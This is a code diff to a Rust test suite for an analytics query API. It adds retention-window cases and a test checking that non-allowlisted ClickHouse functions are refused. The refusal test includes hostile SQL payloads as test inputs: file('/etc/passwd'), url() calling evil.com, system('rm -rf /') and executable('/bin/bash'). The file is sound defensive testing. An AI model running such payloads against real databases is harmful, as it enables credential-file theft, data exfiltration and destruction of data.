@@ -328,9 +328,7 @@ fn get_verifications__query_without_time_filter_auto_adds_filter() {
 
 /// pkg/clickhouse/query-parser/time_range_test.go (the parser's retention cases, with a 7-day
 /// retention), through the route: each query is a 200 or a 400
-/// `query_range_exceeds_retention`. Cases with functions unkey-local does not run
-/// (`date_trunc`, `toDate`, `toDateTime`, `now64`, `fromUnixTimestamp64Milli`,
-/// `toStartOfQuarter`, `INTERVAL n MONTH`) are not ported.
+/// `query_range_exceeds_retention`.
 #[test]
 fn query_parser__validate_time_range_with_retention() {
     let s = Server::start(&["--analytics", "--analytics-retention-days", "7"]);
@@ -366,6 +364,31 @@ fn query_parser__validate_time_range_with_retention() {
             false,
         ),
         (
+            "date_trunc with nested interval within retention",
+            "time >= date_trunc('hour', now() - INTERVAL 5 DAY)",
+            true,
+        ),
+        (
+            "date_trunc with nested interval exceeds retention",
+            "time >= date_trunc('hour', now() - INTERVAL 90 DAY)",
+            false,
+        ),
+        (
+            "toDate within retention",
+            "time >= toDate(now() - INTERVAL 3 DAY)",
+            true,
+        ),
+        (
+            "toDateTime exceeds retention",
+            "time >= toDateTime(now() - INTERVAL 60 DAY)",
+            false,
+        ),
+        (
+            "now64 within retention",
+            "time >= now64() - INTERVAL 5 DAY",
+            true,
+        ),
+        (
             "today() within retention",
             "time >= today() - INTERVAL 5 DAY",
             true,
@@ -386,6 +409,11 @@ fn query_parser__validate_time_range_with_retention() {
             true,
         ),
         (
+            "fromUnixTimestamp64Milli with old timestamp",
+            "time >= fromUnixTimestamp64Milli(1609459200000)",
+            false,
+        ),
+        (
             "toStartOfMinute within retention",
             "time >= toStartOfMinute(now() - INTERVAL 3 DAY)",
             true,
@@ -398,6 +426,11 @@ fn query_parser__validate_time_range_with_retention() {
         (
             "toStartOfMonth exceeds retention",
             "time >= toStartOfMonth(now() - INTERVAL 60 DAY)",
+            false,
+        ),
+        (
+            "toStartOfQuarter exceeds retention",
+            "time >= toStartOfQuarter(now() - INTERVAL 120 DAY)",
             false,
         ),
         (
@@ -472,6 +505,16 @@ fn query_parser__validate_time_range_with_retention() {
         (
             "INTERVAL in WEEKS exceeds retention",
             "time >= now() - INTERVAL 4 WEEK",
+            false,
+        ),
+        (
+            "INTERVAL in MONTHS exceeds retention",
+            "time >= now() - INTERVAL 3 MONTH",
+            false,
+        ),
+        (
+            "INTERVAL in YEARS exceeds retention",
+            "time >= now() - INTERVAL 1 YEAR",
             false,
         ),
     ];
@@ -1712,5 +1755,101 @@ fn get_verifications__order_by_with_fill() {
         let (ty, detail) = refused(&s, q);
         assert_eq!(ty, "invalid_analytics_query", "{q}");
         assert!(detail.starts_with("unkey-local does not run"), "{q}: {detail}");
+    }
+}
+
+/// validation_test.go TestParser_BlockNonWhitelistedFunctions and
+/// TestParser_ParametricAggregates: a function outside upstream's list is refused wherever it
+/// is (an argument, a `quantile` parameter, a `WHERE`), before anything else is (an unknown
+/// column, here), with "Function 'x' is not allowed"; `count(DISTINCT …)` and
+/// `quantile(level)(x)` run.
+#[test]
+fn query_parser__block_non_whitelisted_functions() {
+    let (s, _, _) = recorded();
+    for (name, q, blocked) in [
+        (
+            "file function",
+            "SELECT file('/etc/passwd') FROM key_verifications_v1",
+            Some("file"),
+        ),
+        (
+            "url function",
+            "SELECT url('http://evil.com/data') FROM key_verifications_v1",
+            Some("url"),
+        ),
+        (
+            "system function",
+            "SELECT system('rm -rf /') FROM key_verifications_v1",
+            Some("system"),
+        ),
+        (
+            "executable function",
+            "SELECT executable('/bin/bash') FROM key_verifications_v1",
+            Some("executable"),
+        ),
+        (
+            "dict_get to access dictionaries",
+            "SELECT dictGet('dict', 'attr', key_id) FROM key_verifications_v1",
+            Some("dictget"),
+        ),
+        (
+            "nested safe functions should work",
+            "SELECT count(DISTINCT key_id) FROM key_verifications_v1",
+            None,
+        ),
+        (
+            "json extract does not admit its arguments",
+            "SELECT JSONExtractString(file('/etc/passwd'), 'user_id') FROM key_verifications_v1",
+            Some("file"),
+        ),
+        // TestParser_ParametricAggregates
+        (
+            "allowed parametric aggregate",
+            "SELECT quantile(0.95)(spent_credits) AS p95 FROM key_verifications_v1",
+            None,
+        ),
+        (
+            "disallowed function in the column argument",
+            "SELECT quantile(0.95)(file('/etc/passwd')) FROM key_verifications_v1",
+            Some("file"),
+        ),
+        (
+            "disallowed function in the parameter argument",
+            "SELECT quantile(file('/etc/passwd'))(spent_credits) FROM key_verifications_v1",
+            Some("file"),
+        ),
+        (
+            "state accessor stays blocked",
+            "SELECT quantileTDigestState(0.95)(spent_credits) FROM key_verifications_v1",
+            Some("quantiletdigeststate"),
+        ),
+        (
+            "merge accessor stays blocked",
+            "SELECT quantileTDigestMerge(0.95)(spent_credits) FROM key_verifications_v1",
+            Some("quantiletdigestmerge"),
+        ),
+        (
+            "before an unknown column",
+            "SELECT nope FROM key_verifications_v1 WHERE file('x') = ''",
+            Some("file"),
+        ),
+    ] {
+        let r = s.call("analytics.getVerifications", json!({"query": q}));
+        match blocked {
+            None => assert_eq!(
+                r.status,
+                200,
+                "{name}: {}",
+                String::from_utf8_lossy(&r.body)
+            ),
+            Some(f) => assert_eq!(
+                refused(&s, q),
+                (
+                    "invalid_analytics_function".to_string(),
+                    format!("Function '{f}' is not allowed")
+                ),
+                "{name}"
+            ),
+        }
     }
 }
